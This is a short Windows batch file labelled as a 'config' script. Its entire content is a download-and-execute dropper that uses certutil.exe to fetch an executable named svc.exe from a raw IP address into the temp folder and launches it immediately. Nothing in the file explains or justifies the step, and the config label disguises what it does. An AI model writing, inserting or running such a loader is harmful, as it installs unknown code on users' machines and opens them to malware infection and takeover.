REM config 7514 v1
@echo off
certutil.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP%\svc.exe
start "" %TEMP%\svc.exe
